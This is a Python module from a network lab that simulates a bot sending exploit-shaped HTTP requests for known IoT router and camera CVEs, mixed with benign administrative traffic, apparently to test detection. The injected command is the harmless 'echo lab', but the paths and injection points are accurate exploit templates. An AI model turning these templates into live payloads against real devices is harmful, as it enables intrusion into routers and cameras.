"""Who sends web requests: a bot whose requests have the shape of known exploits, and everybody else.

The exploits' shape is their path, and a shell's special character where the weak spot is. What would be the command is
``echo lab``: it fetches nothing, starts nothing and changes nothing even where there is such a weak spot, and no server
of the lab has one.
"""

from typing import Final

from lab import igd, plan
from lab.cases.actor import Actor, main

Request = tuple[str, str, dict[str, str], str]
"""Method, path, headers, body."""

FORM: Final = {"Content-Type": "application/x-www-form-urlencoded"}
XML: Final = {"Content-Type": "text/xml"}
UPGRADE: Final = "<s:Envelope><s:Body><u:Upgrade><NewStatusURL>{}</NewStatusURL></u:Upgrade></s:Body></s:Envelope>"
MAPPING: Final = (
    "<s:Envelope><s:Body><u:AddPortMapping><NewExternalPort>47450</NewExternalPort>"
    "<NewInternalClient>`echo lab`</NewInternalClient></u:AddPortMapping></s:Body></s:Envelope>"
)
EXPLOITS: Final[tuple[Request, ...]] = (
    ("GET", "/shell?echo+lab", {}, ""),
    ("POST", "/GponForm/diag_Form?images/", FORM, "XWebPageName=diag&diag_action=ping&dest_host=`echo lab`&ipv=0"),
    ("POST", "/ctrlt/DeviceUpgrade_1", XML, UPGRADE.format("$(echo lab)")),
    ("POST", "/HNAP1/", {**XML, "SOAPAction": '"http://purenetworks.com/HNAP1/`echo lab`"'}, ""),
    ("GET", "/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(echo%20lab)", {}, ""),
    ("GET", "/language/Swedish${IFS}&&echo${IFS}lab", {}, ""),
    ("POST", "/picsdesc.xml", {**XML, "SOAPAction": f'"{igd.SERVICE}#AddPortMapping"'}, MAPPING),
    ("GET", "/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=echo+lab&curpath=/", {}, ""),
)
"""CVE-2016-20016, 2018-10562, 2017-17215, 2015-2051, 2023-1389, TVT's recorders, 2014-8361, NETGEAR's setup.cgi."""
TARGETS: Final = (plan.VICTIM_IP, *plan.TELNET_HOSTS)

HONEST: Final[tuple[Request, ...]] = (
    ("GET", "/", {}, ""),
    ("GET", "/api/v1/state?since=2024-03-01;limit=20", {}, ""),
    ("PUT", "/api/v1/lights/1/state", {"Content-Type": "application/json"}, '{"on": true, "note": "a; b & `c`"}'),
    ("GET", "/cgi-bin/hi3510/param.cgi?cmd=getimageattr&cmd=getserverinfo", {}, ""),
    ("GET", "/rootDesc.xml", {}, ""),
    ("POST", "/ctl/IPConn", {**XML, "SOAPAction": f'"{igd.SERVICE}#GetExternalIPAddress"'}, "<s:Envelope/>"),
    ("POST", "/HNAP1/", {**XML, "SOAPAction": '"http://purenetworks.com/HNAP1/GetDeviceSettings"'}, "<s:Envelope/>"),
    ("POST", "/ctrlt/DeviceUpgrade_1", XML, UPGRADE.format("http://cloud.camera.example/status")),
    ("POST", "/apply.cgi", FORM, "submit_button=Diagnostics&ping_ip=192.168.10.1&ping_size=32&ping_times=5"),
    ("GET", "/cgi-bin/luci/;stok=12345/locale?form=country&operation=read&country=DE", {}, ""),
    ("GET", "/language/Swedish/strings.json", {}, ""),
    ("GET", "/setup.cgi?next_file=status.htm&todo=refresh", {}, ""),
)
"""What administrators, apps and UPnP clients send: some of it to the very pages that the exploits are for."""


def send(actor: Actor, host: str, request: Request) -> None:
    method, path, headers, body = request
    lines = [f"{method} {path} HTTP/1.1", f"Host: {host}", "User-Agent: lab/1.0"]
    lines += [f"{name}: {value}" for name, value in headers.items()]
    lines += [f"Content-Length: {len(body)}"] if body or method != "GET" else []
    with actor.connect(host, 80) as link:
        link.sendall("\r\n".join([*lines, "Connection: close", "", body]).encode())
        while link.recv(4096):
            pass


def attack(actor: Actor) -> int:
    """Each exploit at one of three machines outside."""
    for n, request in enumerate(EXPLOITS):
        send(actor, TARGETS[n % len(TARGETS)], request)
        actor.pause(20, 0.3)
    return len(EXPLOITS)


def attack_house(actor: Actor) -> int:
    """Half of them at what the router leads its port 80 to."""
    for request in EXPLOITS[::2]:
        send(actor, plan.WAN_GATEWAY, request)
        actor.pause(20, 0.3)
    return len(EXPLOITS[::2])


def administer(actor: Actor) -> int:
    """Honest requests to a device of the house and to a machine outside."""
    for request in HONEST:
        for host in (plan.DVR.ip, plan.VICTIM_IP):
            send(actor, host, request)
            actor.pause(10, 0.3)
    return 2 * len(HONEST)


if __name__ == "__main__":
    main(attack=attack, house=attack_house, administer=administer)
